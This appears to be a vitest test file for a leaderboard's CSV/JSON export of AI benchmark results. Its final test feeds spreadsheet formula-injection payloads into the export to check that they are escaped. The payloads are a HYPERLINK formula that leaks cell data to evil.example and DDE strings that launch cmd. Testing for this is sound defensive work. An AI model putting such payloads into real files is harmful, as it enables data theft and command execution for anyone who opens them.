import { join, resolve } from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { readDataset } from "../../integrations/readDataset";
import { buildBoard } from "../leaderboard/buildBoard";
import type { ResultLike } from "../leaderboard/types";
import { findBenchmark } from "../leaderboard/boardIndex";
import { boardDownloadRows, boardToCsv, boardToJson, DOWNLOAD_COLUMNS } from "./leaderboardDownload";
import { downloadName } from "../routes/paths";

const ROOT = resolve(import.meta.dirname, "../../..");
const sample = readDataset({ dataDir: join(ROOT, "data"), displayRoot: ROOT });
const board = buildBoard({ benchmark: findBenchmark(sample.benchmarks, "aa-intelligence-index", "v4.0"), results: sample.results, models: sample.models });

describe("leaderboard downloads", () => {
  it("name files by benchmark and version", () => {
    expect(downloadName("aa-intelligence-index", "v4.0", "csv")).toBe("aa-intelligence-index-v4.0.csv");
  });
  it("carry the seed figures exactly, with their sources and the licence", () => {
    const sonnet = boardDownloadRows(board).find((r) => r.model === "claude-sonnet-4-6")!;
    expect(sonnet).toMatchObject({
      score: 51,
      setting: "max",
      output_tokens: 74_000_000,
      cost_usd: 2088,
      score_source_url: "https://news.smol.ai/issues/26-02-18-not-much",
      cost_usd_date: "2026-02-18",
      license: "Figures as reported in AINews; see source_url per row",
      version: "v4.0",
    });
    expect(sonnet.cost_per_point_usd).toBeCloseTo(2088 / 51, 5);
  });
  it("parse back from CSV to the same rows as the JSON", () => {
    const csv = boardToCsv(board);
    const json = JSON.parse(boardToJson(board)) as { rows: Record<string, unknown>[]; columns: string[] };
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([...DOWNLOAD_COLUMNS]);
    expect(json.columns).toEqual([...DOWNLOAD_COLUMNS]);
    const asText = (v: unknown) => (v === null ? "" : String(v));
    expect(parsed.data).toEqual(json.rows.map((r) => Object.fromEntries(DOWNLOAD_COLUMNS.map((c) => [c, asText(r[c])]))));
    expect(parsed.data).toHaveLength(board.entries.length);
  });
  it("tell two rows of one model apart as the board does: the snapshot, or the model as the source wrote it (written_as)", () => {
    // LMArena's bare gemini-2.0-flash column (one day) beside gemini-2.0-flash-001: two rows of one model.
    const flash = { id: "gemini-2-0-flash", name: "Gemini 2.0 Flash", lab: "Google", open_weights: false, released: new Date("2024-12-11") };
    const at = (date: string, score: number, extra: object) => ({ benchmark: "b", version: "v1", model: flash.id, evaluated_at: new Date(date), score, source_url: "https://lmarena.ai/", file: "data/results/b.csv", line: 2, ...extra });
    const two = buildBoard({
      benchmark: { id: "b", name: "B", version: "v1", unit: "elo", direction: "higher" },
      models: [flash],
      results: [at("2025-02-06", 1356.7, { modelAsWritten: "gemini-2.0-flash" }), at("2025-02-27", 1359, { snapshot: "001", modelAsWritten: "gemini-2.0-flash-001", line: 3 })],
    });
    const rows = boardDownloadRows(two);
    expect(rows.map((r) => [r.model, r.snapshot, r.written_as, r.score])).toEqual([
      ["gemini-2-0-flash", "001", null, 1359],
      ["gemini-2-0-flash", null, "gemini-2.0-flash", 1356.7],
    ]);
    // Every row differs from the others in setting, snapshot or written_as.
    expect(new Set(rows.map((r) => JSON.stringify([r.model, r.setting, r.snapshot, r.written_as]))).size).toBe(rows.length);
    const csv = Papa.parse<Record<string, string>>(boardToCsv(two), { header: true, skipEmptyLines: true });
    expect(csv.data.map((r) => [r.snapshot, r.written_as])).toEqual([
      ["001", ""],
      ["", "gemini-2.0-flash"],
    ]);
    // A model with one row on its board is the model: nothing written beside it.
    expect(boardDownloadRows(board).every((r) => r.written_as === null)).toBe(true);
  });
  it("say of a figure the publisher revised the day of the revision and the figure first reported, in columns after the others", () => {
    const m = { id: "m", name: "Model M", lab: "Lab", open_weights: false, released: new Date("2025-06-01") };
    const n = { ...m, id: "n", name: "Model N" };
    const bench = { id: "b", name: "B", version: "v1", unit: "points" as const, direction: "higher" as const };
    const at = (model: string, extra: Partial<ResultLike> & { line: number }): ResultLike => ({ benchmark: "b", version: "v1", model, modelAsWritten: model, evaluated_at: new Date("2026-02-18"), source_url: "https://aa.example/", file: "data/results/b.csv", ...extra });
    const revisedBoard = buildBoard({
      benchmark: bench,
      models: [m, n],
      results: [
        // Score revised 53 → 54 on 2026-03-02, output tokens as first reported.
        at("m", { score: 54, output_tokens: 58e6, line: 4, revised: "2026-03-02", earlier: [{ line: 2, source_url: "https://aa.example/", score: 53, output_tokens: 58e6 }] }),
        // Revised twice: the score on 2026-03-02 (40 → 41), the cost added on 2026-03-09.
        at("n", { score: 41, cost_usd: 900, line: 6, revised: "2026-03-09", earlier: [{ line: 3, source_url: "https://aa.example/", score: 40 }, { line: 5, source_url: "https://aa.example/", revised: "2026-03-02", score: 41 }] }),
      ],
    });
    const rows = Papa.parse<Record<string, string>>(boardToCsv(revisedBoard), { header: true, skipEmptyLines: true }).data;
    const cols = ["model", "score", "score_revised", "score_first_reported", "output_tokens", "output_tokens_revised", "output_tokens_first_reported", "cost_usd", "cost_usd_revised", "cost_usd_first_reported"];
    expect(rows.map((r) => cols.map((c) => r[c]))).toEqual([
      ["m", "54", "2026-03-02", "53", "58000000", "", "", "", "", ""],
      ["n", "41", "2026-03-02", "40", "", "", "", "900", "2026-03-09", ""],
    ]);
    // A figure as first reported says nothing: the seed's board has no revision.
    expect(boardDownloadRows(board).every((r) => r.score_revised === null && r.score_first_reported === null)).toBe(true);
    // The columns scripts read keep their places; the new ones come last.
    expect(DOWNLOAD_COLUMNS.indexOf("license")).toBe(31);
    expect(DOWNLOAD_COLUMNS.slice(32)).toEqual(["score_revised", "score_first_reported", "output_tokens_revised", "output_tokens_first_reported", "cost_usd_revised", "cost_usd_first_reported", "output_tokens_per_task_revised", "output_tokens_per_task_first_reported", "cost_per_task_usd_revised", "cost_per_task_usd_first_reported", "rank_among_registered_only", "open_weights_disputed", "released_disputed"]);
  });
  it("quote names with commas and quotes", () => {
    const odd = { ...board, entries: [{ ...board.entries[0], model: { ...board.entries[0].model, name: 'A, "B"' } }] };
    const parsed = Papa.parse<Record<string, string>>(boardToCsv(odd), { header: true, skipEmptyLines: true });
    expect(parsed.data[0].model_name).toBe('A, "B"');
  });
  it("escape text a spreadsheet would run as a formula (OWASP CSV injection) and strip NUL; numbers stay numbers", () => {
    const e = board.entries[0];
    const hostile = {
      ...board,
      entries: [
        {
          ...e,
          setting: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
          model: { ...e.model, name: "+cmd|' /C calc'!A0", lab: "@SUM(1+1)*cmd|' /C calc'!A0" },
          score: { ...e.score, note: "-2+3+cmd|' /C calc'!A0\u0000" },
        },
        { ...board.entries[1], setting: "\t=1+1", model: { ...board.entries[1].model, name: "\r=1+1" } },
      ],
    };
    const csv = boardToCsv(hostile);
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(rows[0].setting).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect(rows[0].model_name).toBe("'+cmd|' /C calc'!A0");
    expect(rows[0].lab).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(rows[0].score_note).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(rows[1].setting).toBe("'\t=1+1");
    expect(rows[1].model_name).toBe("'\r=1+1");
    // No cell of the file starts a formula, and no NUL is left.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).not.toContain("\u0000");
    expect(boardToJson(hostile)).not.toContain("\\u0000");
    expect(rows[0].score).toBe(String(e.score.value));
  });
});
